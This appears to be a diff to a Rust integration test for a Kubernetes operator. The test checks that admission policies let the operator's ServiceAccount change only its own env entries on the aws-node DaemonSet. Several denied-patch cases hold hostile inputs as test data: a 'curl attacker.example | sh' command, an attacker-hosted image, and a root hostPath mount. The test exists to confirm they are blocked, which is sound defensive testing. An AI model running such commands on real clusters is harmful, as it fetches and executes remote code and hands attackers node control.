@@ -94,7 +94,8 @@ fn eks_aws_node() -> Value {
 }
 
 /// A real API server with the CRD (applied as users do, `kubectl apply -f crds/`), an EKS-shaped
-/// aws-node, and the chart's RBAC for the operator's ServiceAccount.
+/// aws-node, and the chart's RBAC and admission policies for the operator's ServiceAccount: every
+/// scenario runs with the policies in place.
 struct Cluster {
     api: ApiServer,
     admin: Client,
@@ -131,6 +132,8 @@ impl Cluster {
                     "ClusterRoleBinding",
                     "Role",
                     "RoleBinding",
+                    "ValidatingAdmissionPolicy",
+                    "ValidatingAdmissionPolicyBinding",
                 ]
                 .contains(&o["kind"].as_str().unwrap())
             })
@@ -1165,4 +1168,169 @@ fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
             std::fs::copy(entry.path(), &target).unwrap();
         }
     }
+}
+
+/// The chart's ValidatingAdmissionPolicies, enforced by the real API server: as the operator's
+/// ServiceAccount only the owned env entries of the aws-node container may change; an admin is
+/// not restricted.
+#[tokio::test]
+async fn admission_policies_let_the_operator_change_only_its_env() {
+    let Some(cluster) = Cluster::start(json!({})).await else {
+        return;
+    };
+    let operator = support::envtest::client_for(&cluster.operator_kubeconfig).await;
+    let as_operator = daemonsets(&operator);
+    let strategic = |patch: Value, dry_run: bool| {
+        let params = PatchParams {
+            field_manager: Some("vpc-cni-tuner".into()),
+            dry_run,
+            ..Default::default()
+        };
+        let api = as_operator.clone();
+        async move {
+            api.patch("aws-node", &params, &Patch::Strategic(patch))
+                .await
+                .map(|_| ())
+                .map_err(|e| match e {
+                    kube::Error::Api(status) => status.message,
+                    other => other.to_string(),
+                })
+        }
+    };
+    let container_patch = |name: &str, fields: Value| {
+        let mut container = json!({"name": name});
+        container
+            .as_object_mut()
+            .unwrap()
+            .extend(fields.as_object().unwrap().clone());
+        json!({"spec": {"template": {"spec": {"containers": [container]}}}})
+    };
+    let image = container_patch("aws-node", json!({"image": "attacker.example/cni:latest"}));
+    // The policies take effect once the API server has loaded them.
+    eventually(
+        "the admission policy is in force",
+        CONVERGE,
+        &[],
+        || async { strategic(image.clone(), true).await.err() },
+    )
+    .await;
+
+    // What the operator does: server-side apply of an owned env entry.
+    let owned = json!({"apiVersion": "apps/v1", "kind": "DaemonSet",
+        "metadata": {"name": "aws-node", "namespace": "kube-system"},
+        "spec": {"template": {"spec": {"containers": [{"name": "aws-node",
+            "env": [{"name": "WARM_PREFIX_TARGET", "value": "2"}]}]}}}});
+    as_operator
+        .patch(
+            "aws-node",
+            &PatchParams::apply("vpc-cni-tuner").force(),
+            &Patch::Apply(owned),
+        )
+        .await
+        .expect("an owned env entry may change");
+    assert_eq!(
+        cluster.env_value("WARM_PREFIX_TARGET").await.as_deref(),
+        Some("2")
+    );
+
+    let denied = [
+        (
+            "the aws-node image",
+            image.clone(),
+            "containers[aws-node].image",
+        ),
+        (
+            "a foreign env entry",
+            container_patch(
+                "aws-node",
+                json!({"env": [{"name": "AWS_VPC_K8S_CNI_LOGLEVEL", "value": "INFO"}]}),
+            ),
+            "another env entry changed",
+        ),
+        (
+            "an owned env entry from a Secret",
+            container_patch(
+                "aws-node",
+                json!({"env": [{"name": "WARM_IP_TARGET",
+                "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}]}),
+            ),
+            "literal values only",
+        ),
+        (
+            "another container",
+            container_patch(
+                "aws-eks-nodeagent",
+                json!({"args": ["--enable-network-policy=true"]}),
+            ),
+            "another container changed",
+        ),
+        (
+            "a hostPath volume",
+            json!({"spec": {"template": {"spec": {"volumes": [
+                {"name": "root", "hostPath": {"path": "/"}}]}}}}),
+            "spec.template.spec.volumes changed",
+        ),
+        (
+            "the command",
+            container_patch(
+                "aws-node",
+                json!({"command": ["/bin/sh", "-c", "curl attacker.example | sh"]}),
+            ),
+            "containers[aws-node].command",
+        ),
+        (
+            "the pod template's labels",
+            json!({"spec": {"template": {"metadata": {"labels": {"extra": "x"}}}}}),
+            "labels or annotations",
+        ),
+        (
+            "the update strategy",
+            json!({"spec": {"updateStrategy": {"rollingUpdate": {"maxUnavailable": "100%"}}}}),
+            "spec.updateStrategy changed",
+        ),
+    ];
+    for (what, patch, message) in denied {
+        let err = strategic(patch, false)
+            .await
+            .expect_err(&format!("{what} must be denied"));
+        assert!(
+            err.contains("ValidatingAdmissionPolicy") && err.contains(message),
+            "{what}: {err}"
+        );
+    }
+    assert_eq!(
+        cluster
+            .env_value("AWS_VPC_K8S_CNI_LOGLEVEL")
+            .await
+            .as_deref(),
+        Some("DEBUG"),
+        "nothing denied was written"
+    );
+    // The policies themselves: only their status (RBAC refuses first; the policy is the
+    // second line).
+    cluster.policy("p", json!({})).await;
+    let spec_change = policies(&operator)
+        .patch(
+            "p",
+            &PatchParams::default(),
+            &Patch::Merge(json!({"spec": {"enforcement": "DryRun"}})),
+        )
+        .await;
+    assert!(
+        spec_change.is_err(),
+        "the operator may not change a policy's spec"
+    );
+
+    // An admin is not restricted.
+    daemonsets(&cluster.admin)
+        .patch(
+            "aws-node",
+            &PatchParams::default(),
+            &Patch::Strategic(container_patch(
+                "aws-node",
+                json!({"image": "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.19.3-eksbuild.1"}),
+            )),
+        )
+        .await
+        .expect("an admin may change the image");
 }
